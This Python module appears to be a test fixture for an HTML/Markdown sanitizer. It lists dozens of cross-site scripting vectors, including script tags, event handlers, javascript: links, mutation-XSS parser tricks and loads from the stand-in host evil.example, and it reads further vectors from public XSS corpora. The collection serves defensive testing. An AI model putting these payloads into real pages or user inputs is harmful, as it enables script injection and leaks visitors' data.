"""What is tried on the pages: markup that runs, or that tells another site who reads, a few of each class.

Each that runs sets `window.pwned` or opens a dialog; each that tells asks evil.example for something. More comes from
published corpora where FAIRFLOOR_XSS names files or folders of them, several with a colon between: the fixtures of
DOMPurify (test/fixtures/expect.mjs), PortSwigger's cheat sheet (json/), the HTML5 Security Cheatsheet (vectors.txt).
"""

import json
import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

from fairfloor.testing.pds.place import node

RUN = "window.pwned=1"
OURS: dict[str, list[str]] = {
    "scripts": [
        f"<script>{RUN}</script>",
        f"<ScRiPt >{RUN}</sCrIpT\t>",
        f"<script/x>{RUN}</script/x>",
        f"<script\x0c>{RUN}</script>",
        "<script src=//evil.example/x.js></script>",
        "<script type=module>import 'https://evil.example/x.js'</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<noscript><p title='</noscript><script>{RUN}</script>'>",
        f"<!--><script>{RUN}</script>-->",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<?xml ?><script>{RUN}</script>",
        "<script>alert(1)",
    ],
    "handlers": [
        f"<img src=x onerror={RUN}>",
        f"<img/src/onerror={RUN}>",
        f'<img src="x` `<script>{RUN}</script>"` `>',
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>x",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<p onclick={RUN} tabindex=0 autofocus onfocus={RUN}>x",
        f"<style>@keyframes x{{}}</style><x style='animation-name:x' onanimationstart={RUN}>",
        f"<x contenteditable onbeforeinput={RUN} onblur={RUN}>x",
        f'<a title="x" onmouseover="{RUN}">x</a>',
    ],
    "addresses": [
        f"<a href=javascript:{RUN}>x</a>",
        f"<a href=' &#1; java&#x0A;script&colon;{RUN}'>x</a>",
        f"<a href='JaVaScRiPt:{RUN}'>x</a>",
        f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        f"<a href=//evil.example/ ping=//evil.example/ping>x</a><a href=javascript&#58;{RUN}>",
        f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
        f"<form action=javascript:{RUN}><button>x</button></form>",
        f"<button formaction=javascript:{RUN} form=f>x</button><form id=f>",
        f"<base href=javascript:{RUN}//><a href=#>x</a>",
        "<base href=//evil.example/><a href=x>x</a>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    ],
    "what is loaded": [
        "<img src=//evil.example/1.gif>",
        "<img srcset='//evil.example/2.gif 1x' loading=eager>",
        "<link rel=stylesheet href=//evil.example/3.css>",
        "<link rel=preconnect href=//evil.example/><link rel=dns-prefetch href=//evil.example/>",
        "<style>@import '//evil.example/4.css'; body{background:url(//evil.example/5.gif)}</style>",
        "<p style='background:url(//evil.example/6.gif)'>x</p>",
        "<table background=//evil.example/7.gif><tr><td background=//evil.example/8.gif>x</table>",
        "<video src=//evil.example/9.mp4 poster=//evil.example/10.gif autoplay></video>",
        "<object data=//evil.example/11></object><embed src=//evil.example/12>",
        "<iframe src=//evil.example/13></iframe><frameset><frame src=//evil.example/14></frameset>",
        f"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><iframe src=javascript:parent.{RUN}></iframe>",
        "<svg><image href=//evil.example/15.svg /><use href=//evil.example/16.svg#x /></svg>",
        "<input type=image src=//evil.example/17.gif><body background=//evil.example/18.gif>",
    ],
    "changed by parsing": [
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
        f"<noembed><img title='</noembed><img src onerror={RUN}>'></noembed>",
        f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
        f"<template><script>{RUN}</script></template>",
        f"<select><template shadowrootmode=open><img src=x onerror={RUN}></template></select>",
        f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>",
        f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
        f"<plaintext><img src=x onerror={RUN}>",
        f"<title><img title='</title><img src=x onerror={RUN}>'>",
        "<a id=document><a id=forms name=length><img name=getElementById><form id=body><input name=innerHTML>",
    ],
    "Markdown": [
        f"[x](javascript:{RUN})",
        f"[x](  javascript&#58;{RUN})",
        f"[x](java\nscript:{RUN})",
        f'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n![x](x"onerror="{RUN})',
        "![x](//evil.example/19.gif)",
        f'<javascript:{RUN}>\n\n<https://a.example/"onmouseover={RUN}>',
        f"[x]: javascript:{RUN}\n\n[x] [y][x]",
        f"`` <img src=x onerror={RUN}> ``\n\n    <script>{RUN}</script>",
        f'```"><script>{RUN}</script>\nx\n```',
        f"[<img src=x onerror={RUN}>](https://a.example)",
        f"| <svg onload={RUN}> |\n| --- |\n| [x](javascript:{RUN}) |",
        f'[x](https://a.example "\\" onmouseover={RUN} x=\\"")',
    ],
    "where attributes and texts end": [
        f'"><script>{RUN}</script>',
        f"'><img src=x onerror={RUN}>",
        f'" autofocus onfocus="{RUN}',
        f"</title><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"]]><script>{RUN}</script>",
        "{{ 7 * 7 }}{% raw %}${alert(1)}#{alert(1)}<%= alert(1) %>",
        f'\\"><script>{RUN}</script>',
        f"%3Cscript%3E{RUN}%3C/script%3E&lt;script&gt;{RUN}&lt;/script&gt;",
        f"\ufeff\u202e<\u0000script>{RUN}</script>",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    ],
}
_KEYS = {"code", "payload", "vector"}
_H5SC = re.compile(r"""<div id="\d+">(.*?)//\["'`-->\]\]>\]</div>""", re.DOTALL)
_DUMP = "import(process.argv[1]).then((all) => console.log(JSON.stringify(all.default)))"


def ours() -> list[str]:
    """Give our own vectors."""
    return [vector for some in OURS.values() for vector in some]


def published() -> list[str]:
    """Give those of the corpora that FAIRFLOOR_XSS names, each once; none where it names none."""
    named = os.environ.get("FAIRFLOOR_XSS", "")
    files = [
        file
        for one in named.split(":")
        if one
        for file in ([Path(one)] if Path(one).is_file() else sorted(Path(one).rglob("*.*")))
    ]
    return [*dict.fromkeys(vector for file in files for vector in _read(file))]


def _files(named: Path) -> list[Path]:
    return [named] if named.is_file() else sorted(named.rglob("*.*"))


def _read(file: Path) -> Iterator[str]:
    if file.suffix == ".txt":
        yield from _H5SC.findall(file.read_text("utf-8", "replace"))
    elif file.suffix == ".json":
        yield from _within(json.loads(file.read_text("utf-8")))
    elif file.suffix == ".mjs":
        done = subprocess.run([str(node()), "-e", _DUMP, str(file)], check=True, capture_output=True)
        yield from _within(json.loads(done.stdout))


def _within(told: object) -> Iterator[str]:
    """Give the vectors in a file, wherever they stand in it; `<*` stands for an element of any name."""
    if isinstance(told, dict):
        for key, value in told.items():
            if key in _KEYS and isinstance(value, str):
                yield value.replace("<*", "<xss").replace("</*", "</xss")
            else:
                yield from _within(value)
    elif isinstance(told, list):
        for value in told:
            yield from _within(value)
